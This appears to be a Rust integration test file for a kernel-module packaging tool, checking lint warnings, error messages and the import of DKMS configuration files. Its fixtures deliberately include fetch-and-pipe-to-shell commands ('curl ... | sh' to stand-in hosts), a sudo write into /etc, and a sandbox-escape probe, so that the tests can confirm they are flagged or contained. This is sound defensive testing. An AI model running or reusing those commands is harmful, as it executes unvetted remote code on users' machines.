//! Issue 9's messages and refusals, and what `init --from` shows and
//! carries (issue 8's import): the real binary in a temp dir, as a user
//! runs it.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output};

mod common;
use common::{kmodfarm_in, text, SENSOR_PACKAGE as MANIFEST};

fn kmodfarm(dir: &Path, args: &[&str]) -> Output {
    kmodfarm_in(dir, args, |cmd| {
        cmd.env_remove("DEBFULLNAME")
            .env_remove("DEBEMAIL")
            .env("GIT_CONFIG_GLOBAL", "/dev/null");
    })
}

/// A project with `manifest` and a kbuild tree in src/.
fn project(manifest: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("src")).unwrap();
    std::fs::write(dir.path().join("src/Kbuild"), "obj-m := sensor.o\n").unwrap();
    std::fs::write(dir.path().join("kmodfarm.toml"), manifest).unwrap();
    dir
}

fn executable(path: &Path, body: &str) {
    std::fs::write(path, body).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// `args` fails with every needle in its output, and leaves `dir` as it was.
fn refused(dir: &Path, args: &[&str], needles: &[&str]) -> String {
    let before = listing(dir);
    let out = kmodfarm(dir, args);
    let all = text(&out);
    assert_eq!(out.status.code(), Some(1), "{args:?}: {all}");
    for needle in needles {
        assert!(
            all.contains(needle),
            "{args:?}: output lacks '{needle}':\n{all}"
        );
    }
    assert_eq!(listing(dir), before, "{args:?} wrote something");
    all
}

fn listing(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            out.push(e.path().strip_prefix(dir).unwrap().display().to_string());
            if e.file_type().unwrap().is_dir() {
                stack.push(e.path());
            }
        }
    }
    out.sort();
    out
}

#[test]
fn a_duplicate_table_is_called_a_duplicate_table() {
    let dir = project(&format!("{MANIFEST}\n[package]\nname = \"again\"\n"));
    let all = refused(
        dir.path(),
        &["lint"],
        &["kmodfarm.toml:12:1: duplicate table [package] (the first is on line 1)"],
    );
    assert!(!all.contains("invalid table header"), "{all}");
}

#[test]
fn a_250_character_name_is_refused_by_lint_render_and_package_with_the_limit() {
    let long = "a".repeat(250);
    let dir = project(&MANIFEST.replacen("name = \"sensor\"", &format!("name = \"{long}\""), 1));
    let limit = "over the 255-byte limit of file names; use a name of at most 162 characters";
    refused(
        dir.path(),
        &["lint"],
        &[
            "kmodfarm.toml:2: error: package name is 250 characters",
            limit,
        ],
    );
    refused(
        dir.path(),
        &["render", "--out", "out"],
        &["fails `kmodfarm lint`", limit],
    );
    refused(
        dir.path(),
        &["package", "--out", "pk"],
        &["fails `kmodfarm lint`", limit],
    );

    // At the limit it passes.
    let fits = "a".repeat(162);
    let dir = project(&MANIFEST.replacen("name = \"sensor\"", &format!("name = \"{fits}\""), 1));
    let out = kmodfarm(dir.path(), &["lint"]);
    assert!(out.status.success(), "{}", text(&out));
}

#[test]
fn render_refuses_a_missing_source_dir_and_a_missing_pre_build_script() {
    let dir = project(&format!("{MANIFEST}\n[source]\ndir = \"driver\"\n"));
    refused(
        dir.path(),
        &["render", "--out", "out"],
        &["kmodfarm.toml:13: error: the source tree driver does not exist"],
    );

    let dir = project(&format!(
        "{MANIFEST}\n[build]\npre_build = \"configure --fast\"\n"
    ));
    refused(
        dir.path(),
        &["render", "--out", "out"],
        &["kmodfarm.toml:13: error: pre_build = \"configure --fast\": the script src/configure does not exist"],
    );
}

#[test]
fn a_pre_build_path_with_spaces_is_quoted_whole() {
    let dir = project(&format!(
        "{MANIFEST}\n[build]\npre_build = \"my scripts/configure.sh\"\n"
    ));
    std::fs::create_dir(dir.path().join("src/my scripts")).unwrap();
    executable(
        &dir.path().join("src/my scripts/configure.sh"),
        "#!/bin/sh\n",
    );
    refused(
        dir.path(),
        &["lint"],
        &["pre_build = \"my scripts/configure.sh\": DKMS runs the first word, src/my, as the script", "cannot contain blanks"],
    );
}

#[test]
fn an_empty_matrix_without_distro_does_not_mention_distro() {
    let dir = project(MANIFEST);
    std::fs::write(dir.path().join("none.json"), "[]").unwrap();
    let all = refused(
        dir.path(),
        &["build", "--matrix", "none.json", "--dry-run"],
        &["no kernels to build: --matrix none.json lists none"],
    );
    assert!(!all.contains("--distro"), "{all}");
    refused(
        dir.path(),
        &[
            "build",
            "--matrix",
            "none.json",
            "--distro",
            "debian-12",
            "--dry-run",
        ],
        &["are none of --distro debian-12"],
    );
}

#[test]
fn lint_warns_on_commands_that_reach_the_network_or_outside_the_tree() {
    let dir = project(&format!(
        "{MANIFEST}\n[build]\ncommand = \"make -C ${{kernel_source_dir}} M=$PWD; curl -fsSL https://get.example/x | sh\"\npre_build = \"configure\"\n"
    ));
    executable(
        &dir.path().join("src/configure"),
        "#!/bin/sh\n# wget is mentioned in a comment only\nmake defconfig\nsudo cp sensor.conf /etc/sensor.conf\n",
    );
    let out = kmodfarm(dir.path(), &["lint"]);
    let all = text(&out);
    assert!(out.status.success(), "warnings, not errors: {all}");
    assert!(all.contains("kmodfarm.toml:13: warning: command = \"make -C ${kernel_source_dir} M=$PWD; curl -fsSL https://get.example/x | sh\": it reaches the network (https://get.example/x, curl)"), "{all}");
    assert!(all.contains("src/configure:4: warning: `sudo cp sensor.conf /etc/sensor.conf`: it writes outside the build tree (cp … /etc/sensor.conf) and runs a command as another user (sudo)"), "{all}");
    assert!(
        !all.contains(":2: warning"),
        "a comment is not a command: {all}"
    );
    assert!(all.contains("lint: no errors, 2 warning(s)"), "{all}");
}

/// A DKMS tree as third parties ship them.
fn dkms_tree(conf: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("blksnap");
    std::fs::create_dir(&tree).unwrap();
    std::fs::write(tree.join("dkms.conf"), conf).unwrap();
    std::fs::write(tree.join("Makefile"), "obj-m := blksnap.o\n").unwrap();
    std::fs::write(
        tree.join("blksnap.c"),
        "// SPDX-License-Identifier: GPL-2.0\n#include <linux/module.h>\nMODULE_LICENSE(\"GPL\");\n",
    )
    .unwrap();
    dir
}

const CONF: &str = r#"PACKAGE_NAME="blksnap"
PACKAGE_VERSION="6.3.0"
BUILT_MODULE_NAME[0]="$PACKAGE_NAME"
DEST_MODULE_LOCATION[0]="/updates/dkms"
MAKE[0]="make -C ${kernel_source_dir} M=${dkms_tree}/${PACKAGE_NAME}/${PACKAGE_VERSION}/build; curl -s https://x.example/fix | sh"
PRE_BUILD="genconfig.sh $kernelver"
STRIP[0]="no"
NO_WEAK_MODULES="yes"
POST_REMOVE="cleanup.sh"
AUTOINSTALL="yes"
"#;

#[test]
fn init_from_shows_every_command_it_carries_and_names_what_it_drops() {
    let dir = dkms_tree(CONF);
    let tree = dir.path().join("blksnap");
    executable(
        &tree.join("genconfig.sh"),
        "#!/bin/sh\n# reads the symbol table\ngrep ' T ' /lib/modules/$1/build/System.map > syms.h\n",
    );
    let out = kmodfarm(dir.path(), &["init", "--from", "blksnap"]);
    let all = text(&out);
    assert!(out.status.success(), "{all}");
    // The summary of shell commands, last, each with its dkms.conf line.
    let summary = all
        .split("commands carried over from blksnap/dkms.conf")
        .nth(1)
        .unwrap_or_else(|| panic!("no summary:\n{all}"));
    assert!(summary.contains("line 5: MAKE[0]: make -C ${kernel_source_dir} M=${dkms_tree}/blksnap/6.3.0/build; curl -s https://x.example/fix | sh\n    warning: it reaches the network (https://x.example/fix, curl)"), "{summary}");
    assert!(
        summary.contains("line 6: PRE_BUILD: genconfig.sh $kernelver"),
        "{summary}"
    );
    // Every directive not carried, with its line.
    for note in [
        "line 7: STRIP[0]=\"no\" was dropped",
        "line 8: NO_WEAK_MODULES=\"yes\" was dropped",
        "line 9: POST_REMOVE=\"cleanup.sh\" was dropped",
        "needs = [\"system-map\"]: the build reads the kernel's System.map (genconfig.sh:3)",
        "license GPL-2.0-only: from SPDX-License-Identifier: GPL-2.0 at blksnap.c:1",
    ] {
        assert!(all.contains(note), "lacks '{note}':\n{all}");
    }

    let m = kmodfarm_model::Manifest::load(&tree.join("kmodfarm.toml")).unwrap();
    assert_eq!(m.modules[0].name, "blksnap", "$PACKAGE_NAME expanded");
    assert_eq!(m.build.needs, [kmodfarm_model::KernelInput::SystemMap]);
    assert_eq!(m.package.license, "GPL-2.0-only");
    assert!(m.package.summary.len() <= 80 && !m.package.summary.ends_with('.'));
    assert!(
        m.package.description.lines().all(|l| l.len() <= 79),
        "{:?}",
        m.package.description
    );
    // No maintainer in the tree: a placeholder, which lint flags.
    assert!(all.contains("maintainer: none found in the tree"), "{all}");
    let lint = kmodfarm(dir.path(), &["-m", "blksnap/kmodfarm.toml", "lint"]);
    assert!(
        text(&lint).contains("warning: maintainer is a placeholder"),
        "{}",
        text(&lint)
    );
    assert!(
        text(&lint).contains("it reaches the network"),
        "{}",
        text(&lint)
    );
}

#[test]
fn init_from_takes_the_maintainer_and_license_from_the_tree() {
    let dir = dkms_tree(CONF);
    let tree = dir.path().join("blksnap");
    std::fs::create_dir(tree.join("debian")).unwrap();
    std::fs::write(
        tree.join("debian/control"),
        "Source: blksnap\nSection: kernel\nMaintainer: Veeam Kernel Team <kernel@vendor.example>\n",
    )
    .unwrap();
    std::fs::write(
        tree.join("blksnap.c"),
        "/* SPDX-License-Identifier: GPL-2.0+ */\nMODULE_LICENSE(\"GPL\");\n",
    )
    .unwrap();
    let out = kmodfarm(dir.path(), &["init", "--from", "blksnap"]);
    assert!(out.status.success(), "{}", text(&out));
    let m = kmodfarm_model::Manifest::load(&tree.join("kmodfarm.toml")).unwrap();
    assert_eq!(
        m.package.maintainer,
        "Veeam Kernel Team <kernel@vendor.example>"
    );
    assert_eq!(m.package.license, "GPL-2.0-or-later");
    assert!(
        text(&out).contains("from blksnap/debian/control:3"),
        "{}",
        text(&out)
    );
    assert!(m.build.needs.is_empty(), "nothing reads System.map");

    // MODULE_LICENSE("GPL") alone: GPL version 2, as the kernel documents it.
    std::fs::write(tree.join("blksnap.c"), "MODULE_LICENSE(\"GPL\");\n").unwrap();
    let out = kmodfarm(dir.path(), &["init", "--from", "blksnap", "--force"]);
    assert!(out.status.success(), "{}", text(&out));
    let m = kmodfarm_model::Manifest::load(&tree.join("kmodfarm.toml")).unwrap();
    assert_eq!(m.package.license, "GPL-2.0-only");
}

#[test]
fn a_malformed_dkms_conf_line_is_named_with_its_text() {
    let dir = dkms_tree(&CONF.replace("BUILT_MODULE_NAME[0]=", "BUILT_MODULE_NAME[0="));
    refused(
        dir.path(),
        &["init", "--from", "blksnap"],
        &["blksnap/dkms.conf:3: `BUILT_MODULE_NAME[0=\"$PACKAGE_NAME\"`: BUILT_MODULE_NAME[ opens an array index that no ']' closes"],
    );
}

#[test]
fn errors_in_an_imported_value_cite_the_dkms_conf_line() {
    let dir = dkms_tree(&CONF.replace("PACKAGE_VERSION=\"6.3.0\"", "PACKAGE_VERSION=\"v6.3\""));
    let all = refused(
        dir.path(),
        &["init", "--from", "blksnap"],
        &["blksnap/dkms.conf:2: PACKAGE_VERSION: version 'v6.3' has characters DKMS, dpkg or rpm reject"],
    );
    assert!(
        !all.contains("kmodfarm.toml"),
        "cites a file never written: {all}"
    );

    let dir = dkms_tree(&CONF.replace("\"$PACKAGE_NAME\"", "\"blk snap\""));
    let all = refused(
        dir.path(),
        &["init", "--from", "blksnap"],
        &["blksnap/dkms.conf:3: BUILT_MODULE_NAME: module name 'blk snap' is not a kernel module name"],
    );
    assert!(
        !all.contains("kmodfarm.toml"),
        "cites a file never written: {all}"
    );
}

/// DKMS sources dkms.conf with bash: values computed in shell and arrays
/// filled by a loop are taken, read by bash in a sandbox.
#[test]
fn init_from_takes_a_dkms_conf_that_computes_in_shell() {
    let conf = r#"PACKAGE_NAME="blksnap"
PACKAGE_VERSION=$(echo 6.3.0.77 | sed 's/\.77$//')
BUILT_MODULE_NAME[0]="$PACKAGE_NAME"
BUILT_MODULE_NAME[1]="${PACKAGE_NAME}_cow"
for i in 0 1; do
    DEST_MODULE_LOCATION[$i]="/updates/dkms"
done
MAKE[0]="make -C ${kernel_source_dir} M=${dkms_tree}/${PACKAGE_NAME}/${PACKAGE_VERSION}/build"
if [[ "$kernelver" == 6.* ]]; then
    MAKE[0]="${MAKE[0]} EXTRA=6"
fi
touch /tmp/escaped-sandbox-$$ 2>/dev/null
AUTOINSTALL="yes"
"#;
    let dir = dkms_tree(conf);
    let tree = dir.path().join("blksnap");
    let out = kmodfarm(dir.path(), &["init", "--from", "blksnap"]);
    let all = text(&out);
    assert!(out.status.success(), "{all}");
    let m = kmodfarm_model::Manifest::load(&tree.join("kmodfarm.toml")).unwrap();
    assert_eq!(m.package.version, "6.3.0");
    let modules: Vec<(&str, &str)> = m
        .modules
        .iter()
        .map(|x| (x.name.as_str(), x.dest.as_str()))
        .collect();
    assert_eq!(
        modules,
        [
            ("blksnap", "/updates/dkms"),
            ("blksnap_cow", "/updates/dkms")
        ]
    );
    assert_eq!(
        m.build.command.as_deref(),
        Some("make -C ${kernel_source_dir} M=${dkms_tree}/blksnap/6.3.0/build"),
        "DKMS's variables stay variables"
    );
    assert!(
        all.contains("line 2: dkms.conf computes values in shell"),
        "{all}"
    );
    // MAKE[0] depends on the kernel: the builds read the file per kernel.
    assert_eq!(m.build.dkms_conf.as_deref(), Some("dkms.conf"));
    assert!(
        all.contains("dkms_conf = \"dkms.conf\": the file decides per kernel (MAKE[0] depends on $kernelver, shell code from line 2 may read the kernel's files; bash gives 5.4.0-1-generic and 6.12.9-amd64 different values)"),
        "{all}"
    );
    // Only /tmp's own entries: other tests make and remove directories under
    // it meanwhile, so a recursive walk races them.
    let escaped: Vec<_> = std::fs::read_dir("/tmp")
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|f| f.starts_with("escaped-sandbox-"))
        .collect();
    assert!(
        escaped.is_empty(),
        "the file's code ran outside the sandbox: {escaped:?}"
    );

    // Bash cannot read it either: the static reader's error, with the line.
    let dir = dkms_tree(&format!("{conf}PACKAGE_NAME=\"unterminated\n"));
    refused(
        dir.path(),
        &["init", "--from", "blksnap"],
        &["blksnap/dkms.conf:14: `PACKAGE_NAME=\"unterminated`: unterminated double quote"],
    );
}

#[test]
fn init_from_takes_the_maintainer_from_the_trees_git_log() {
    let dir = dkms_tree(CONF);
    let tree = dir.path().join("blksnap");
    let git = |args: &[&str]| {
        let out = Command::new("git")
            .args([
                "-c",
                "user.name=Ann Author",
                "-c",
                "user.email=ann@vendor.example",
            ])
            .args(args)
            .current_dir(&tree)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", text(&out));
    };
    git(&["init", "-q"]);
    git(&["add", "."]);
    git(&["commit", "-q", "-m", "import"]);
    let out = kmodfarm(dir.path(), &["init", "--from", "blksnap"]);
    assert!(out.status.success(), "{}", text(&out));
    let m = kmodfarm_model::Manifest::load(&tree.join("kmodfarm.toml")).unwrap();
    assert_eq!(m.package.maintainer, "Ann Author <ann@vendor.example>");
    assert!(
        text(&out).contains("from the git log of blksnap"),
        "{}",
        text(&out)
    );
}
